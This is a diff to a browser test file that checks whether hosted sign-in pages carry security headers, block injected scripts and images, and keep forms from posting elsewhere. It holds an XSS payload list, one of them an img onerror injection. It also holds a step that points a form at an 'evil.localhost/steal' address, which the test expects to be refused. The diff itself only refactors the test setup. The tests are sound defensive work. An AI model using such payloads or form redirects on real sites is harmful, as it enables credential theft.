@@ -3,7 +3,7 @@ import { goodPassword, initiate, newEmail } from "../support/person.ts";
 import { missingProtections } from "./support/protections.ts";
 import { changeApp } from "./support/records.ts";
 import { describeInBrowser } from "./support/stage.ts";
-import { createApp, fillAccount, heading, inPage, link, openSignIn } from "./support/steps.ts";
+import { createApp, fillAccount, heading, inPage, link, openSignIn, newSignIn } from "./support/steps.ts";
 
 const attacks = [
   `<img src=x onerror="document.title='owned'">`,
@@ -15,9 +15,7 @@ const attacks = [
 
 describeInBrowser("hosted pages and what others put into them", (stage) => {
   it("carry every protection, which all tests in a browser look for on every page that they meet", async () => {
-    const app = await createApp(stage);
-    const page = await stage.newPage();
-    const { authUrl } = await openSignIn(stage, page, app);
+    const { page, session } = await newSignIn(stage);
     const headers = (await page.reload())?.headers() ?? {};
     expect(missingProtections(headers)).toEqual([]);
     expect(missingProtections({ ...headers, "x-frame-options": "SAMEORIGIN" })).toEqual(["x-frame-options"]);
@@ -28,7 +26,7 @@ describeInBrowser("hosted pages and what others put into them", (stage) => {
     expect(missingProtections({ ...headers, "content-security-policy": loose })).toHaveLength(2);
     expect(headers["content-security-policy"]).toContain(`form-action 'self' ${stage.site.origin};`);
     // A page that has no form for the app does not let any form out.
-    const unknown = await page.goto(`${authUrl}x`);
+    const unknown = await page.goto(`${session.authUrl}x`);
     expect(unknown?.headers()["content-security-policy"]).toContain("form-action 'self';");
   });
 
@@ -46,9 +44,7 @@ describeInBrowser("hosted pages and what others put into them", (stage) => {
   });
 
   it("run no script and load no picture of anybody else, even when one finds its way into the page", async () => {
-    const app = await createApp(stage);
-    const page = await stage.newPage();
-    await openSignIn(stage, page, app);
+    const { page } = await newSignIn(stage);
     // Every one of these is refused, and reported; a request that goes out all the same fails the
     // test.
     stage.expectComplaint(/Content Security Policy|TrustedHTML|TrustedScript/u);
@@ -83,9 +79,7 @@ describeInBrowser("hosted pages and what others put into them", (stage) => {
   });
 
   it("send their forms nowhere but to themselves and the app", async () => {
-    const app = await createApp(stage);
-    const page = await stage.newPage();
-    const { authUrl } = await openSignIn(stage, page, app);
+    const { page, session } = await newSignIn(stage);
     stage.expectComplaint(/form-action/u);
     const foreign = `http://evil.localhost:${stage.site.port}/steal`;
     await page.evaluate(`document.querySelector("form:not([data-passkey])").action = ${JSON.stringify(foreign)}`);
@@ -93,7 +87,7 @@ describeInBrowser("hosted pages and what others put into them", (stage) => {
     const complaint = page.waitForEvent("console", (message) => message.text().includes("form-action"));
     await page.evaluate(`document.querySelector("form:not([data-passkey])").submit()`);
     await complaint;
-    expect(page.url()).toBe(authUrl);
+    expect(page.url()).toBe(session.authUrl);
   });
 
   it("show the logo of an app from where the app keeps it", async () => {
